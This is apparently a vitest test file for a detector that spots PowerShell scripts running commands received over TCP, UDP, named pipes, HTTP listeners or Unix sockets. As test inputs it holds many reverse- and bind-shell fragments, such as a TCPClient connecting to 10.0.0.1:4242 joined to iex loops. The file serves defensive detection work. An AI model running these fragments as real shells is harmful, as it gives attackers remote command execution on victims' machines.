import { describe, expect, it } from 'vitest'

import { told } from '../../../test/scripts/told.ts'

const tcp = `$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();`
const pipe = `$s=New-Object IO.Pipes.NamedPipeClientStream('srv1','upd');$s.Connect();`

/** What reads from `$s` and runs it. */
const runs = [
  '$b=New-Object byte[] 1024;while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=[Text.Encoding]::ASCII.GetString($b,0,$i);$o=(iex $d 2>&1|Out-String)}',
  '[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);iex $d}',
  '$r=New-Object IO.StreamReader($s);while($true){$l=$r.ReadLine();Invoke-Expression $l|Out-String}',
  '$r=[IO.StreamReader]::new($s);&([scriptblock]::Create($r.ReadToEnd()))',
  '$t=New-Object Net.Security.SslStream($s,$false,({$true}));$t.AuthenticateAsClient("x");$r=New-Object IO.StreamReader($t);$r.ReadLine()|iex',
  '$r=New-Object IO.StreamReader($s);cmd.exe /c $r.ReadLine()',
  '$r=New-Object IO.StreamReader($s);$l="& {"+$r.ReadLine()+"}";powershell -c $l',
  '$r=New-Object IO.BinaryReader($s);[Text.Encoding]::UTF8.GetString($r.ReadBytes(512))|Invoke-Expression',
  '$r=New-Object IO.StreamReader($s);[PowerShell]::Create().AddScript($r.ReadLine()).Invoke()',
  '$b=[byte[]]::new(512);$s.ReadAsync($b,0,512).Wait();iex ([Text.Encoding]::UTF8.GetString($b).Trim())',
]

/** What reads from `$s` and runs nothing of it. */
const keeps = [
  '$r=New-Object IO.StreamReader($s);while($l=$r.ReadLine()){Add-Content C:\\log.txt $l}',
  '$r=New-Object IO.StreamReader($s);if($r.ReadLine() -eq "stop"){Stop-Service x};iex "Get-Date"',
  '$w=New-Object IO.StreamWriter($s);$w.WriteLine((iex "Get-Date"))',
  '$r=New-Object IO.StreamReader($s);$h=$r.ReadLine();ping.exe $h',
]

describe('text that comes from elsewhere and is run', () => {
  it.each(runs)('makes a connection a shell: %s', (text) => {
    expect(told(tcp + text, 'powershell')).toContain(
      'network_shell 10.0.0.1:4242',
    )
  })

  it.each(runs)('makes a pipe one that commands come through: %s', (text) => {
    expect(told(pipe + text, 'powershell')).toContain(
      'pipe_commands \\upd on srv1',
    )
  })

  it.each(keeps)('is told only where it is run: %s', (text) => {
    const actions = [
      ...told(tcp + text, 'powershell'),
      ...told(pipe + text, 'powershell'),
    ]
    expect(actions.filter((a) => /network_shell|commands/.test(a))).toEqual([])
  })

  it.each([
    [
      '$l=[Net.Sockets.TcpListener]::new(4444);$l.Start();$s=$l.AcceptTcpClient().GetStream();',
      'network_shell 4444',
    ],
    [
      `$c=[Net.Sockets.TcpClient]::new();$c.Connect('10.0.0.1',4242);$s=$c.GetStream();`,
      'network_shell 10.0.0.1:4242',
    ],
    [
      `$k=New-Object Net.Sockets.Socket([Net.Sockets.AddressFamily]::InterNetwork,1,6);$k.Connect('10.0.0.1',4242);$s=New-Object Net.Sockets.NetworkStream($k);`,
      'network_shell 10.0.0.1:4242',
    ],
    [
      `$s=New-Object IO.Pipes.NamedPipeServerStream('upd');$s.WaitForConnection();`,
      'pipe_commands \\upd',
    ],
    [
      `$k=[Net.Sockets.Socket]::new([Net.Sockets.AddressFamily]::Unix,1,0);$k.Connect([Net.Sockets.UnixDomainSocketEndPoint]::new('/tmp/x.sock'));$s=[Net.Sockets.NetworkStream]::new($k);`,
      'network_shell /tmp/x.sock',
    ],
  ])('comes from whatever is opened: %s', (opening, action) => {
    expect(told(opening + runs[2], 'powershell')).toContain(action)
  })

  it.each([
    [
      '$p=New-Object IO.Pipes.NamedPipeClientStream("fs1","jobs","In");$p.Connect();$j=(New-Object IO.StreamReader($p)).ReadToEnd()|ConvertFrom-Json;Start-Process $j.exe -ArgumentList $j.args',
      'pipe_commands \\jobs on fs1',
    ],
    [
      'Get-Content \\\\.\\pipe\\jobs | Invoke-Expression',
      'pipe_commands \\jobs',
    ],
    [
      '$r=[IO.StreamReader]::new([IO.File]::Open("\\\\srv1\\pipe\\jobs","Open","Read"));iex $r.ReadLine()',
      'pipe_commands \\jobs on srv1',
    ],
    [
      '$l=[Net.HttpListener]::new();$l.Prefixes.Add("http://+:8080/");$l.Start();$x=$l.GetContext();iex (New-Object IO.StreamReader($x.Request.InputStream)).ReadToEnd()',
      'listen http://+:8080/',
    ],
    [
      'using namespace System.IO.Pipes\n$p=[NamedPipeServerStream]::new("jobs");$p.WaitForConnection();iex ([System.IO.StreamReader]::new($p)).ReadLine()',
      'pipe_commands \\jobs',
    ],
    [
      'function Take($s){ $r=New-Object IO.StreamReader($s); Run $r.ReadLine() }\nfunction Run($t){ Invoke-Expression -Command $t }\n$p=New-Object IO.Pipes.NamedPipeClientStream(".","jobs",3); Take $p',
      'pipe_commands \\jobs',
    ],
  ])('is followed through whatever hands it on: %s', (text, action) => {
    const actions = told(text, 'powershell')
    expect(actions).toContain(action)
    expect(actions.join()).toMatch(/network_shell|pipe_commands/)
  })

  it('comes in datagrams', () => {
    const text = `$u=New-Object Net.Sockets.UdpClient('10.0.0.1',53);$d=[Text.Encoding]::ASCII.GetString($u.Receive([ref]$e));iex $d`
    expect(told(text, 'powershell')).toContain('network_shell 10.0.0.1:53')
  })

  it.each([
    [
      '$p=New-Object Diagnostics.Process;$p.StartInfo.FileName="cmd.exe";$p.StartInfo.RedirectStandardInput=$true;$p.Start()',
      true,
    ],
    [
      '$i=New-Object Diagnostics.ProcessStartInfo -Property @{FileName="cmd.exe";RedirectStandardInput=$true};[Diagnostics.Process]::Start($i)',
      true,
    ],
    [
      '$p=New-Object Diagnostics.Process;$p.StartInfo.FileName="sort.exe";$p.StartInfo.RedirectStandardInput=$true;$p.Start()',
      false,
    ],
    [
      '$p=New-Object Diagnostics.Process;$p.StartInfo.FileName="cmd.exe";$p.StartInfo.RedirectStandardOutput=$true;$p.Start()',
      false,
    ],
  ])('goes to a shell whose input is redirected: %s', (text, isShell) => {
    const shells = told(tcp + text, 'powershell').filter((a) =>
      /^network_shell/.test(a),
    )
    expect(shells.length > 0).toBe(isShell)
    const pipes = told(pipe + text, 'powershell').filter((a) =>
      /^pipe_commands/.test(a),
    )
    expect(pipes.length > 0).toBe(isShell)
  })
})
